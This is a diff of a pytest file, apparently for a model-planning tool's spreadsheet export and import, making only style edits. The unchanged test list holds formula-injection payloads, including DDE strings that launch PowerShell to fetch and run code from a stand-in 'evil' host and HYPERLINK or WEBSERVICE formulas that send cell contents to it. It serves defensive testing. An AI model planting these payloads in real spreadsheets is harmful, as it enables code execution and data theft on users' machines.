@@ -29,15 +29,15 @@ MARK = "evil"
 # OWASP, "CSV Injection" and "Testing for Formula Injection"; the codes of headers and footers of ECMA-376 18.3.1.46;
 # each with a word by which it is found again.
 PAYLOADS = (
-    "=1+1&\"evil\"", "+1+evil", "-1+evil", "@SUM(evil)", "\t=evil", "\r=evil", "\n=evil", "＝1＋evil", "＋evil",
+    '=1+1&"evil"', "+1+evil", "-1+evil", "@SUM(evil)", "\t=evil", "\r=evil", "\n=evil", "＝1＋evil", "＋evil",
     "－evil", "＠evil",
     "=cmd|' /C calc'!evil", "=cmd|'/C powershell IEX(wget evil/s)'!A0",
     '=HYPERLINK("http://evil.invalid?l="&A1,"evil")',
-    "=DDE(\"cmd\";\"/C calc\";\"evil\")", "=MSEXCEL|'\\..\\..\\evil.exe'!''", "=WEBSERVICE(\"http://evil.invalid\")",
-    '=IMPORTXML("http://evil.invalid","//a")', "=[http://evil.invalid/x.xlsx]Sheet1!A1", "'=evil", "''=evil", "\"=evil",
+    '=DDE("cmd";"/C calc";"evil")', "=MSEXCEL|'\\..\\..\\evil.exe'!''", '=WEBSERVICE("http://evil.invalid")',
+    '=IMPORTXML("http://evil.invalid","//a")', "=[http://evil.invalid/x.xlsx]Sheet1!A1", "'=evil", "''=evil", '"=evil',
     "http://evil.invalid/", "https://evil.invalid", "ftp://evil.invalid", "file:///evil", "mailto:evil@evil.invalid",
     "\\\\evil\\share", "internal:evil!A1", "external:evil.xlsx", "#evil!A1", "javascript:evil", "{=evil}",
-    "&Z&F &G &P &\"Arial\" evil", "[evil]", "evil]'!A1", "evil'!A1", "'evil'", "History evil", "<f>evil</f>", "&evil;",
+    '&Z&F &G &P &"Arial" evil', "[evil]", "evil]'!A1", "evil'!A1", "'evil'", "History evil", "<f>evil</f>", "&evil;",
     "]]><c><f>evil</f></c>", "_x003D_evil", "evil\x1b]0;title\x07", "evil\u202e", "%evil%", "$evil$(id)`id`",
     "{{evil}}",
 )  # fmt: skip
@@ -86,7 +86,7 @@ def assert_nothing_is_live(path: Path) -> None:
         for row in ws.iter_rows():
             for cell in row:
                 if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS) and MARK in cell.value:
-                    assert cell.data_type == "s" and cell.quotePrefix or cell.data_type == "f", (cell, cell.value)
+                    assert (cell.data_type == "s" and cell.quotePrefix) or cell.data_type == "f", (cell, cell.value)
 
 
 @pytest.fixture
@@ -160,7 +160,7 @@ def test_a_filled_planner_is_not_exported_and_says_so(vram, filled, tmp_path):
 @pytest.mark.parametrize("payload", [payload for payload in PAYLOADS if payload.startswith(FORMULA_STARTS)])
 def test_no_formula_is_added_to_a_file_of_models(tmp_path, payload):
     """`vram model import`: names and files called like formulas are refused, before anything is written."""
-    row = {column: "" for column in COLUMNS} | {"model_type": "llama", "name": "mine"}
+    row = dict.fromkeys(COLUMNS, "") | {"model_type": "llama", "name": "mine"}
     for column in ("name", "title", "source"):
         try:
             made = row_of(
